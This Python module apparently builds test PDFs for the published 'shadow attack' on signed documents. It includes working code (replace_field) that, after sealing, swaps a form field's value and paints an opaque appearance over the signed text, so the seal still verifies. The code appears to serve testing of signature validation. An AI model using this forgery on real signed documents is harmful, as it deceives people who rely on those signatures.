"""PDFs with a text form field, and the "replace" shadow attack on them (real pyHanko files).

The attack (Mainka, Mladenov, Rohlmann: "Shadow Attacks", NDSS 2021): the document is
prepared with a text field lying over a line of its content, showing the same text, so the
signer sees nothing unusual. After signing, an incremental update gives the field another
value and a new appearance that paints over the signed line. A viewer then shows the new
text on a document whose seal still verifies, because form filling after an approval
signature is permitted unless a lock forbids it.

    pdf = form_pdf("ZHANG SAN")                          # the field shows the signed text
    sealed = sealer(MARKET_DEPT).seal(pdf, level=PadesLevel.B_B)
    forged = replace_field(sealed, "LI SI")              # value and appearance replaced
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import BasePdfFileWriter, PdfFileWriter

__all__ = ["FIELD", "RECT", "appearance", "form_pdf", "replace_field"]

FIELD = "holder"
"""The text field's name."""
RECT = (140, 740, 420, 770)
"""Where the field lies on the page: over the holder's name in the page content."""


def _name(text: str) -> generic.NameObject:
    return generic.pdf_name(text)


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in values])


def _font(writer: BasePdfFileWriter) -> generic.IndirectObject:
    return writer.add_object(
        generic.DictionaryObject(
            {
                _name("/Type"): _name("/Font"),
                _name("/Subtype"): _name("/Type1"),
                _name("/BaseFont"): _name("/Helvetica"),
            }
        )
    )


def appearance(
    writer: BasePdfFileWriter,
    text: str,
    *,
    opaque: bool,
    font: generic.IndirectObject | None = None,
) -> generic.IndirectObject:
    """A widget appearance for :data:`RECT` showing ``text``; ``opaque`` paints white
    under it first (over whatever the page shows there)."""
    font = font or _font(writer)
    width, height = RECT[2] - RECT[0], RECT[3] - RECT[1]
    paint = f"1 g 0 0 {width} {height} re f " if opaque else ""
    content = f"/Tx BMC q {paint}BT /Helv 18 Tf 0 g 2 8 Td ({text}) Tj ET Q EMC"
    stream = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _numbers(0, 0, width, height),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/Helv"): font})}
            ),
        },
        stream_data=content.encode("ascii"),
    )
    return writer.add_object(stream)


def form_pdf(value: str) -> bytes:
    """One page reading ``holder: <value>``, with text field :data:`FIELD` lying over the
    name and showing the same value (transparent background). ASCII only."""
    if not value.isascii():
        raise ValueError("form_pdf writes Helvetica text: give ASCII only")
    writer = PdfFileWriter()
    font = _font(writer)
    content = writer.add_object(
        generic.StreamObject(
            stream_data=(
                f"BT /F1 18 Tf 72 {RECT[1] + 8} Td (holder:) Tj ET "
                f"BT /F1 18 Tf {RECT[0] + 2} {RECT[1] + 8} Td ({value}) Tj ET "
                "BT /F1 12 Tf 72 700 Td (evault sample license with a form field) Tj ET"
            ).encode("ascii")
        )
    )
    page = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Page"),
            _name("/MediaBox"): _numbers(0, 0, 595, 842),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/F1"): font})}
            ),
            _name("/Contents"): content,
        }
    )
    writer.insert_page(page)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    field = writer.add_object(
        generic.DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Widget"),
                _name("/FT"): _name("/Tx"),
                _name("/T"): generic.TextStringObject(FIELD),
                _name("/V"): generic.TextStringObject(value),
                _name("/DA"): generic.TextStringObject("/Helv 18 Tf 0 g"),
                _name("/Rect"): _numbers(*RECT),
                _name("/F"): generic.NumberObject(4),
                _name("/P"): page_ref,
                _name("/AP"): generic.DictionaryObject(
                    {_name("/N"): appearance(writer, value, opaque=False, font=font)}
                ),
            }
        )
    )
    page_ref.get_object()[_name("/Annots")] = generic.ArrayObject([field])
    writer.root[_name("/AcroForm")] = generic.DictionaryObject(
        {
            _name("/Fields"): generic.ArrayObject([field]),
            _name("/DA"): generic.TextStringObject("/Helv 18 Tf 0 g"),
            _name("/DR"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/Helv"): font})}
            ),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def replace_field(signed: bytes, value: str) -> bytes:
    """The attack: an incremental update giving field :data:`FIELD` the value ``value``
    and a new, opaque appearance that paints over the signed text beneath it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    fields = writer.root["/AcroForm"]["/Fields"]
    for i in range(len(fields)):
        ref = fields.raw_get(i)
        field = ref.get_object()
        if str(field.get("/T")) == FIELD:
            break
    else:
        raise ValueError(f"no field {FIELD!r} in the document")
    field[_name("/V")] = generic.TextStringObject(value)
    field[_name("/AP")] = generic.DictionaryObject(
        {_name("/N"): appearance(writer, value, opaque=True)}
    )
    writer.mark_update(ref)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
